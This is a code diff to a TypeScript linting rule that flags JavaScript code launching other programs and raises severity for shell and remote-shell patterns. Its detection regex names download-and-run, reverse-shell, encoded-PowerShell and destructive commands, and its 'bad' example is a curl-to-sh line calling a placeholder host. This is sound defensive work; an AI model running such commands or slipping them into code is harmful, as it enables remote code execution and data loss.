@@ -2,8 +2,10 @@ import { constantPrefix } from '../facts/destinations.ts';
 import { defineRule } from '../rule.ts';
 import { isDecodedValue, isPlugin } from './helpers.ts';
 
-const STARTS = /^(?:child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)|npm:(?:execa|cross-spawn|shelljs)(?:\.\w+)?|Deno\.(?:run|Command)|Bun\.spawn(?:Sync)?|process\.(?:dlopen|binding))$/;
-const HOSTILE = /\b(?:curl|wget)\b[^|;&]*[|;&]+\s*(?:sudo\s+)?(?:ba|z)?sh\b|powershell[^\n]*(?:-e(?:nc|ncodedcommand)?\b|iex|downloadstring)|\/dev\/tcp\/|\bnc\s+-[a-z]*e|base64\s+(?:-d|--decode)\s*\||\brm\s+-rf\s+[~/]|certutil[^\n]*-urlcache|mkfifo/i;
+const STARTS =
+  /^(?:child_process\.(?:exec|execSync|spawn|spawnSync|execFile|execFileSync|fork)|npm:(?:execa|cross-spawn|shelljs)(?:\.\w+)?|Deno\.(?:run|Command)|Bun\.spawn(?:Sync)?|process\.(?:dlopen|binding))$/;
+const HOSTILE =
+  /\b(?:curl|wget)\b[^|;&]*[|;&]+\s*(?:sudo\s+)?(?:ba|z)?sh\b|powershell[^\n]*(?:-e(?:nc|ncodedcommand)?\b|iex|downloadstring)|\/dev\/tcp\/|\bnc\s+-[a-z]*e|base64\s+(?:-d|--decode)\s*\||\brm\s+-rf\s+[~/]|certutil[^\n]*-urlcache|mkfifo/i;
 
 export const processStart = defineRule({
   id: 'process-start',
@@ -12,7 +14,10 @@ export const processStart = defineRule({
   title: 'Another program is started',
   why: 'A program started from here escapes everything this review covers.',
   fix: 'Do the work in JavaScript, or ask the host for it.',
-  example: { bad: 'require("child_process").exec("curl https://x.example/i | sh");', good: 'const sum = (a, b) => a + b;' },
+  example: {
+    bad: 'require("child_process").exec("curl https://x.example/i | sh");',
+    good: 'const sum = (a, b) => a + b;',
+  },
   cwe: 78,
   visit: {
     call: (call, context) => {
@@ -20,8 +25,23 @@ export const processStart = defineRule({
       if (!name) return;
       const command = call.args.map((arg) => constantPrefix(arg, context.file, 0)).join(' ');
       const decoded = isDecodedValue(call.args[0], context);
-      if (HOSTILE.test(command) || decoded) context.report(call.node, { severity: 'critical', message: decoded ? 'The command that is started is decoded at run time.' : 'This command downloads and runs, opens a shell to elsewhere, or destroys.' });
-      else context.report(call.node, { severity: isPlugin(context) ? 'high' : 'low', message: `${name} starts another program.` });
+      const isOpen = !/^(?:[\w-]+)(?:\s|$)/.test(command) || /\.(?:exec|execSync)$/.test(name);
+      const isRemote =
+        (/^(?:\/bin\/)?(?:ba|z|da)?sh\b|^cmd(?:\.exe)?\b|^powershell/.test(command) &&
+          /\bnew\s+[\w.]*(?:Socket|WebSocket)\b|\bnet\b.*connect|\.connect\(/s.test(context.file.text)) ||
+        (name === 'process.binding' && /spawn_sync|process_wrap|tcp_wrap/.test(command));
+      if (HOSTILE.test(command) || decoded)
+        context.report(call.node, {
+          severity: 'critical',
+          message: decoded
+            ? 'The command that is started is decoded at run time.'
+            : 'This command downloads and runs, opens a shell to elsewhere, or destroys.',
+        });
+      else
+        context.report(call.node, {
+          severity: isRemote ? 'high' : isPlugin(context) ? (isOpen ? 'high' : 'medium') : 'low',
+          message: `${name} starts another program.`,
+        });
     },
   },
 });
